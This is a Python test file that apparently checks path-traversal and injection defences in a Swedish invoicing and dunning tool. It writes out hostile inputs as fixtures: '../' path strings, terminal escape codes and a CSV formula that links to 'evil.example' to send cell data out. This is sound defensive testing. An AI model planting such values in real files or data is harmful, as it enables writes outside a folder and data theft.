"""File names built from data stay plain names inside their folder (issue 14, item 7).

An invoice imported with the number ``/../../../../x/ESC`` made ``reprint`` write outside the
letters folder, and ``sie-export`` with the owner code ``../../OWN`` outside its folder. The
ledger import now refuses such identifiers (a safe character set, a length), and every file name
built from data goes through ``fileio.name_part`` and ``fileio.file_in``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from tests.collection_samples import CREDITOR, PERSON, case
from tests.conftest import SHARED_DOCS
from tests.rate_data import store_rates
from tests.test_dunning_service import DEMAND, REMINDER, invoice
from tui_inkasso.db.models import Invoice, Owner, Voucher, VoucherRow
from tui_inkasso.fileio import FileNameError, file_in, identifier_problem, name_part
from tui_inkasso.formats.case_file import render_case_file, write_case_file
from tui_inkasso.formats.layout import builtin_layout_path, parse_layout
from tui_inkasso.formats.ledger_json import parse_json, read_ledger
from tui_inkasso.formats.text import FORMULA_TRIGGERS
from tui_inkasso.services import dunning_levels, dunning_reprint, dunning_run
from tui_inkasso.services.settings import set_setting
from tui_inkasso.services.sie_export import export_sie

TRAVERSAL = "/../../../../x/\x1b"


def _example() -> dict[str, Any]:
    return parse_json((SHARED_DOCS / "ledger-import-example.json").read_bytes())


@pytest.mark.parametrize(("value", "part"), [
    (TRAVERSAL, "x_"), ("../../OWN", "OWN"), ("BAB", "BAB"), ("2026-001", "2026-001"),
    ("F 1001/2", "F_1001_2"), (".profile", "profile"), ("a..b", "a.b"), ("", "_"), ("..", "_"),
])
def test_name_part_keeps_identifiers_and_makes_everything_else_a_plain_name(value: str, part: str) -> None:
    assert name_part(value) == part
    assert "/" not in part and not part.startswith(".")


@pytest.mark.parametrize("value", [TRAVERSAL, "../../OWN", "a/b", ".x", "-x", "a b", "a..b", "x" * 41, ""])
def test_identifier_problem_refuses_what_cannot_be_part_of_a_file_name(value: str) -> None:
    assert identifier_problem(value) is not None


@pytest.mark.parametrize("value", ["BAB", "100234", "2026-001", "K1001", "Öst_2.b"])
def test_identifier_problem_accepts_ordinary_numbers_and_codes(value: str) -> None:
    assert identifier_problem(value) is None


def test_file_in_refuses_names_that_leave_the_folder(tmp_path: Path) -> None:
    assert file_in(tmp_path, "aterutskrift-100234-niva1.pdf") == tmp_path / "aterutskrift-100234-niva1.pdf"
    for bad in ("../x.pdf", "a/b.pdf", "..", ".", ".hidden", "", "a\x1bb.pdf"):
        with pytest.raises(FileNameError):
            file_in(tmp_path, bad)
    (tmp_path / "link").symlink_to(tmp_path.parent)
    with pytest.raises(FileNameError):
        file_in(tmp_path / "link", "..")


def test_the_ledger_reader_refuses_an_invoice_number_or_owner_code_that_would_leave_a_folder() -> None:
    data = _example()
    data["invoices"][0]["number"] = TRAVERSAL
    data["owners"][0]["id"] = "../../OWN"
    _, problems = read_ledger(data)
    found = {p.path: p.reason for p in problems}
    assert "invoices[0].number" in found and "'/'" in found["invoices[0].number"]
    assert "filnamn" in found["invoices[0].number"]
    assert "owners[0].id" in found and "'/'" in found["owners[0].id"]


def test_the_ledger_reader_strips_control_characters_and_escape_sequences_from_names() -> None:
    data = _example()
    data["customers"][0]["name"] = "Anna\x1b[2J\x1b[31m Svensson\x1b[0m\n"
    data["customers"][0]["address"] = "Storgatan\u202e 1"
    ledger, problems = read_ledger(data)
    assert problems == [] or all(not p.path.startswith("customers[0]") for p in problems)
    customer = ledger.customers[0]
    assert (customer.name, customer.address) == ("Anna Svensson", "Storgatan 1")


def test_sie_export_with_an_owner_code_stored_before_the_check_writes_inside_its_folder(
    sqlite_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TUI_INKASSO_TODAY", "2026-11-28")
    owner = Owner.create(code="../../OWN", name="Ägare AB", org_no="556677-8899")
    voucher = Voucher.create(owner=owner, number=1, date=dt.date(2026, 9, 30), text="hyra", source="manual",
                             created_at=dt.datetime(2026, 9, 30, 12))
    VoucherRow.insert_many([{"voucher": voucher.id, "account": "1930", "amount": 100},
                            {"voucher": voucher.id, "account": "1510", "amount": -100}]).execute()
    folder = tmp_path / "a" / "b" / "sie"
    result = export_sie(folder, from_date=dt.date(2026, 9, 1), to_date=dt.date(2026, 9, 30))
    assert [f.path for f in result.files] == [folder / "OWN_20260901_20260930.si"]
    assert sorted(p.name for p in tmp_path.rglob("*.si")) == ["OWN_20260901_20260930.si"]


def test_an_agency_file_name_from_a_client_number_stays_inside_its_folder(tmp_path: Path) -> None:
    document = json.loads(builtin_layout_path("svea").read_text(encoding="utf-8"))
    document["file_name"] = "SVEA_{client}_{created:%Y%m%d}.csv"
    layout = parse_layout(document, "test")
    creditor = replace(CREDITOR, agency_customer_number="../../x")
    folder = tmp_path / "a" / "b"
    folder.mkdir(parents=True)
    path = write_case_file(folder, [case(creditor=creditor)], layout, created_at=dt.datetime(2026, 11, 28))
    assert path == folder / "SVEA_x_20261128.csv"


def test_the_svea_csv_defuses_names_a_spreadsheet_would_run_as_formulas() -> None:
    debtor = replace(PERSON, name='=HYPERLINK("http://evil.example/?"&A1;"Klicka")', address="+46 8 123",
                     city="@SUM(A1)")
    data = render_case_file([case(debtor=debtor)], "svea", created_at=dt.datetime(2026, 11, 28))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter=";"))
    assert rows[1][5] == '\'=HYPERLINK("http://evil.example/?"&A1;"Klicka")'
    assert (rows[1][6], rows[1][8]) == ("'+46 8 123", "'@SUM(A1)")
    assert all(not value.startswith(FORMULA_TRIGGERS) for row in rows for value in row[1:] if value[:1] != "-")


def test_a_reprint_of_an_invoice_numbered_like_a_path_stays_in_the_letters_folder(
    sqlite_url: str, tmp_path: Path
) -> None:
    dunning_levels.save_levels([REMINDER, DEMAND])
    store_rates()
    letters = tmp_path / "a" / "b" / "brev"
    set_setting("dunning.letters_dir", str(letters))
    stored = invoice("9001")
    # the number as an earlier import stored it, before invoice numbers were checked
    Invoice.update(number=TRAVERSAL).where(Invoice.id == stored.id).execute()
    result = dunning_run.run_dunning(dt.date(2026, 7, 2), out_dir=letters)
    notice_id = result.notices[0].notice_id
    path = dunning_reprint.default_reprint_path(notice_id)
    assert path == letters / "aterutskrift-x_-niva1.pdf"
    dunning_reprint.print_notice(notice_id, path, to_printer=False)
    assert sorted(p.relative_to(tmp_path) for p in tmp_path.rglob("*.pdf")) == [
        Path("a/b/brev") / path.name, Path("a/b/brev") / result.pdf_path.name]
    assert not (tmp_path / "x").exists()
